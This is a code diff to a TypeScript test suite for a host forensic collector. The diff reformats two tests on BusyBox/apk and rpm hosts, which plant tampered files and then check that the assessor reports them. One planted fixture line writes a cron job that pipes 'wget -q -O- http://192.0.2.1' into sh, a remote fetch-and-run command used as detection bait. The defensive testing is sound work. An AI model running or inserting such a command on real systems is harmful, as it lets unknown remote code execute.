@@ -82,8 +82,10 @@ describe.skipIf(missing !== '')(`the collector on hosts${why}`, () => {
     }
   });
 
-  test.skipIf(!withBusybox)('a host with BusyBox only, and the database of apk', async () => {
-    const plant = String.raw`
+  test.skipIf(!withBusybox)(
+    `a host with BusyBox only, and the database of apk${withBusybox ? '' : ' (skipped: busybox is missing)'}`,
+    async () => {
+      const plant = String.raw`
 mkdir -p /new/bin /new/usr/bin /new/usr/sbin /new/sbin /new/lib/apk/db /new/etc/init.d /new/etc/periodic/daily /new/proc /new/dev /new/tmp /new/root /new/var/log /new/run
 cp /bin/busybox /new/bin/busybox
 for a in $(/new/bin/busybox --list); do [ $a = busybox ] || ln -s /bin/busybox /new/bin/$a; done
@@ -95,28 +97,35 @@ sum() { sha1sum $1 | cut -c1-40 | perl -ne 'chomp; print pack("H*", $_)' | base6
 printf 'changed\n' >>/new/usr/sbin/setup
 printf '* * * * * wget -q -O- http://192.0.2.1 | sh\n' >/new/etc/periodic/daily/x
 mount -t proc proc /new/proc; mount --rbind /dev /new/dev`;
-    const shell = ['chroot', '/new', '/bin/busybox', 'sh', '-s'];
-    const collected = await collect({
-      plant,
-      shell,
-    });
-    expect(unwhole(collected).map(({ artifact, why: said }) => `${artifact}: ${said}`)).toEqual([
-      'privileged: getcap is not there, so file capabilities were not looked for',
-    ]);
-    expect(collected.identity).toMatchObject({ osId: 'alpine', osVersion: '3.19.1', hostname: 'throwaway' });
-    const findings = assess(collected).map(({ rule, fact }) => `${rule} ${fact.path}`);
-    expect(findings).toContain('replaced-file /usr/sbin/setup');
-    expect(findings).toContain('program-of-no-package /usr/sbin/other');
-    expect(findings).toContain('cron-job /etc/periodic/daily/x');
-    expect(findings).not.toContain('replaced-file /bin/busybox');
-    expect(findings).not.toContain('boot-script /etc/init.d/crond');
-    expect(
-      collected.facts.some(({ artifact, value }) => artifact === 'packages' && value === '1.36.1-r15'),
-    ).toBe(true);
-  });
+      const shell = ['chroot', '/new', '/bin/busybox', 'sh', '-s'];
+      const collected = await collect({
+        plant,
+        shell,
+      });
+      expect(unwhole(collected).map(({ artifact, why: said }) => `${artifact}: ${said}`)).toEqual([
+        'privileged: getcap is not there, so file capabilities were not looked for',
+      ]);
+      expect(collected.identity).toMatchObject({
+        osId: 'alpine',
+        osVersion: '3.19.1',
+        hostname: 'throwaway',
+      });
+      const findings = assess(collected).map(({ rule, fact }) => `${rule} ${fact.path}`);
+      expect(findings).toContain('replaced-file /usr/sbin/setup');
+      expect(findings).toContain('program-of-no-package /usr/sbin/other');
+      expect(findings).toContain('cron-job /etc/periodic/daily/x');
+      expect(findings).not.toContain('replaced-file /bin/busybox');
+      expect(findings).not.toContain('boot-script /etc/init.d/crond');
+      expect(
+        collected.facts.some(({ artifact, value }) => artifact === 'packages' && value === '1.36.1-r15'),
+      ).toBe(true);
+    },
+  );
 
-  test.skipIf(!withRpm)('a host with rpm, and bash as its sh', async () => {
-    const plant = String.raw`
+  test.skipIf(!withRpm)(
+    `a host with rpm, and bash as its sh${withRpm ? '' : ' (skipped: rpmbuild is missing)'}`,
+    async () => {
+      const plant = String.raw`
 mount --bind /bin/bash /bin/dash
 mv /var/lib/dpkg /var/lib/dpkg.gone
 mkdir -p /etc/rpm; echo '%_dbpath /var/lib/rpm' >/etc/rpm/macros
@@ -125,23 +134,24 @@ printf 'Name: demo\nVersion: 1.2\nRelease: 3\nSummary: demo\nLicense: none\n%%de
 cd /tmp/b; rpmbuild -bb --define '_topdir /tmp/b' --define '_dbpath /var/lib/rpm' demo.spec >/tmp/b/log 2>&1
 rpm -i --force --nodeps --dbpath /var/lib/rpm RPMS/*/*.rpm
 printf 'extra\n' >>/usr/sbin/demo-b; echo a=2 >/etc/demo/demo.conf; printf 'ID="rhel"\nVERSION_ID="9.3"\n' >/usr/lib/os-release`;
-    const chosen = ['packages', 'package-verify', 'unpackaged', 'cron'];
-    rpmImage = await makeImage('rpm');
-    const collected = await collect({ on: rpmImage, plant, artifacts: chosen, shell: ['bash', '-s'] });
-    expect(unwhole(collected)).toEqual([]);
-    expect(collected.identity).toMatchObject({ osId: 'rhel', osVersion: '9.3' });
-    const verified = collected.facts.filter(({ artifact }) => artifact === 'package-verify');
-    expect(verified.map(({ path, detail }) => `${detail.change} ${path}`).sort()).toEqual([
-      'changed /usr/sbin/demo-b',
-      'setting /etc/demo/demo.conf',
-    ]);
-    const foreign = collected.facts
-      .filter(({ artifact }) => artifact === 'unpackaged')
-      .map(({ path }) => path);
-    expect(foreign).toContain('/usr/bin/perl');
-    expect(foreign).not.toContain('/usr/bin/demo-a');
-    expect(collected.facts.find(({ key }) => key.startsWith('demo:'))?.value).toBe('1.2-3');
-  });
+      const chosen = ['packages', 'package-verify', 'unpackaged', 'cron'];
+      rpmImage = await makeImage('rpm');
+      const collected = await collect({ on: rpmImage, plant, artifacts: chosen, shell: ['bash', '-s'] });
+      expect(unwhole(collected)).toEqual([]);
+      expect(collected.identity).toMatchObject({ osId: 'rhel', osVersion: '9.3' });
+      const verified = collected.facts.filter(({ artifact }) => artifact === 'package-verify');
+      expect(verified.map(({ path, detail }) => `${detail.change} ${path}`).sort()).toEqual([
+        'changed /usr/sbin/demo-b',
+        'setting /etc/demo/demo.conf',
+      ]);
+      const foreign = collected.facts
+        .filter(({ artifact }) => artifact === 'unpackaged')
+        .map(({ path }) => path);
+      expect(foreign).toContain('/usr/bin/perl');
+      expect(foreign).not.toContain('/usr/bin/demo-a');
+      expect(collected.facts.find(({ key }) => key.startsWith('demo:'))?.value).toBe('1.2-3');
+    },
+  );
 
   test('without root it says what is missing', async () => {
     const shell = ['setpriv', '--reuid', '65534', '--regid', '65534', '--clear-groups', 'sh', '-s'];
